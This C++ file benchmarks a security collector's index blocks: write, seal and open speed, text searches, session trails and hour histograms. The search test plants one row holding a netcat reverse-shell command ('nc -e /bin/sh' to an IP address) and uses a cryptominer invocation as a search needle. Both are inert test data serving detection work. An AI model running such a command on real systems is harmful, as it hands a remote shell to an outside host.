// spoor-bench-blocks [BLOCKS]: what index blocks cost, over the rows of block_rows.h: a line a
// figure, `NAME VALUE UNIT`. Searches and the like are those of BLOCKS (8) blocks, told as what
// 50 million rows would take.
//
// spoor-bench-blocks BLOCKS FOLDER: what queries over so many of them cost, in files there.
#include <cstdio>
#include <cstdlib>
#include <numeric>

#include "collector/blocks/block_reader.h"
#include "collector/blocks/block_writer.h"
#include "collector/blocks/page_reader.h"
#include "collector/blocks/text_reader.h"
#include "tests/bench/bench_time.h"
#include "tests/bench/block_queries.h"
#include "tests/bench/block_rows.h"
#include "tests/bench/block_sizes.h"

namespace spoor::collector {
namespace {

constexpr double kRowsAsked = 50e6;
constexpr uint64_t kHourMs = 3'600'000;

class Bench {
 public:
  Bench(std::string name, Corpus corpus, size_t blocks)
      : name_(std::move(name)), rows_(corpus), blocks_wanted_(blocks) {}

  void run() {
    write();
    sizes();
    searches();
    trail();
    histogram();
  }

 private:
  void tell(const std::string& what, double value, const char* unit) const {
    std::printf("%s.%s %.6g %s\n", name_.c_str(), what.c_str(), value, unit);
  }
  void tell_scaled(const std::string& what, double spent_s) const {
    tell(what, 1e3 * spent_s * kRowsAsked / rows_written_, "ms");
  }

  Text searched() const { return name_ == "files" ? Text::files : Text::command; }
  void write();
  void sizes() const;
  void searches() const;
  uint64_t search(Text column, const Pattern& pattern) const;
  void trail() const;
  void histogram() const;

  const std::string name_;
  BlockRows rows_;
  const size_t blocks_wanted_;
  std::vector<std::string> blocks_;
  std::vector<BlockReader> readers_;
  double rows_written_ = 0;
};

// What it takes to make the rows is measured apart, and taken off.
void Bench::write() {
  double add_s = 0, seal_s = 0;
  BlockWriter writer(EventClass::command);
  for (size_t b = 0; b < blocks_wanted_; ++b) {
    BlockRows same_rows = rows_;
    size_t rows = 0;
    add_s += seconds([&] {
      while (!writer.is_full()) {
        Row row = rows_.next();
        if (b == blocks_wanted_ / 2 && writer.rows() == kIndexBlockRowsMax / 2) {
          row[Text::command].text = row[Text::files].text = "nc -e /bin/sh 203.0.113.66";
        }
        writer.add(row);
      }
      rows = writer.rows();
      seal_s += seconds([&] {
        blocks_.push_back(writer.seal());
        writer.clear();
      });
    });
    uint64_t pids = 0;
    add_s -= seconds([&] {
      for (size_t i = 0; i < rows; ++i) pids += Row(same_rows.next())[Number::pid];
    });
    CHECK(pids > 0);
    rows_written_ += static_cast<double>(rows);
  }
  add_s -= seal_s;
  tell("rows_per_s", rows_written_ / (add_s + seal_s), "rows/s");
  tell("add_ns_per_row", 1e9 * add_s / rows_written_, "ns");
  tell("seal_ns_per_row", 1e9 * seal_s / rows_written_, "ns");
  const double open_s = seconds([&] {
    for (const std::string& block : blocks_) {
      readers_.push_back(BlockReader::open(as_bytes(block)).value());
    }
  });
  tell_scaled("open_ms", open_s);
}

void Bench::sizes() const {
  tell("different_texts", readers_.front().texts(searched()), "texts");
  for (const auto& [what, bytes] : bytes_per_row(readers_)) tell(what, bytes, "B");
}

// As a query would do it: texts, then the rows that have them, and when they were.
uint64_t Bench::search(Text column, const Pattern& pattern) const {
  uint64_t found_rows = 0;
  for (const BlockReader& reader : readers_) {
    const FoundTexts found = reader.find(column, {pattern}).value();
    if (found.fitting.empty()) continue;
    std::vector<bool> wanted(reader.texts(column) + 1);
    for (const uint32_t number : found.fitting) wanted[number] = true;
    for (size_t p = 0; p < reader.pages(); ++p) {
      const ValueRange range = reader.range(column, p);
      const auto first = std::ranges::lower_bound(found.fitting, range.least);
      if (first == found.fitting.end() || *first > range.greatest) continue;
      PageReader page(reader, p);
      const auto numbers = page.values(column).value();
      std::span<const uint64_t> times;
      for (size_t i = 0; i < numbers.size(); ++i) {
        if (!wanted[numbers[i]]) continue;
        if (times.empty()) times = page.values(Number::time_ms).value();
        found_rows += times[i] != 0;
      }
    }
  }
  return found_rows;
}

void Bench::searches() const {
  const Text column = searched();
  struct Needle {
    const char* what;
    const char* text;
  };
  for (const Needle& needle : {Needle{"absent", "xmrig --donate"}, Needle{"rare", "203.0.113.66"},
                               Needle{"common", "config.yaml"}, Needle{"two_bytes", "-e"}}) {
    uint64_t rows = 0;
    double best = 1e9;
    for (int i = 0; i < 3; ++i) {
      best = std::min(best, seconds([&] {
                        rows = search(column, Pattern::containing(needle.text));
                      }));
    }
    tell_scaled(std::string("search_") + needle.what + "_ms", best);
    tell(std::string("search_") + needle.what + "_rows", static_cast<double>(rows), "rows");
  }
}

// Every column and text of the rows of one session in one block, found by its uid.
void Bench::trail() const {
  const BlockReader& reader = readers_.front();
  const std::string uid = [&] {
    PageReader page(reader, reader.pages() / 2);
    TextReader texts(reader);
    const auto sessions = page.values(Text::session).value();
    return std::string(texts.text(Text::session, sessions[1000]).value().text);
  }();
  size_t rows = 0, text_bytes = 0;
  const double spent = seconds([&] {
    const uint32_t session =
        reader.find(Text::session, {Pattern::exactly(uid), true}).value().fitting.at(0);
    TextReader texts(reader);
    for (size_t p = 0; p < reader.pages(); ++p) {
      if (!reader.range(Text::session, p).holds(session)) continue;
      PageReader page(reader, p);
      const auto sessions = page.values(Text::session).value();
      for (size_t i = 0; i < kNumbers; ++i) (void)page.values(static_cast<Number>(i)).value();
      for (size_t t = 0; t < kTexts; ++t) {
        const auto column = static_cast<Text>(t);
        const auto numbers = page.values(column).value();
        for (size_t i = 0; i < numbers.size(); ++i) {
          if (sessions[i] != session) continue;
          text_bytes += texts.text(column, numbers[i]).value().text.size();
          rows += t == 0;
        }
      }
    }
  });
  tell("trail_in_block_ms", 1e3 * spent, "ms");
  tell("trail_in_block_rows", static_cast<double>(rows), "rows");
  CHECK(text_bytes > 0);
}

void Bench::histogram() const {
  std::vector<uint64_t> hours(24);
  tell_scaled("histogram_ms", seconds([&] {
                for (const BlockReader& reader : readers_) {
                  for (size_t p = 0; p < reader.pages(); ++p) {
                    PageReader page(reader, p);
                    for (const uint64_t time : page.values(Number::time_ms).value()) {
                      ++hours[time / kHourMs % 24];
                    }
                  }
                }
              }));
  CHECK(static_cast<double>(std::accumulate(hours.begin(), hours.end(), uint64_t{0})) ==
        rows_written_);
}

}  // namespace
}  // namespace spoor::collector

int main(int argc, char** argv) {
  using spoor::collector::Bench;
  using spoor::collector::Corpus;
  const size_t blocks = argc > 1 ? std::strtoul(argv[1], nullptr, 10) : 8;
  if (argc > 2) {
    spoor::collector::bench_queries(argv[2], blocks);
    return 0;
  }
  Bench("zipf", Corpus::zipf, blocks).run();
  Bench("distinct", Corpus::distinct, blocks).run();
  Bench("files", Corpus::files, blocks).run();
  return 0;
}
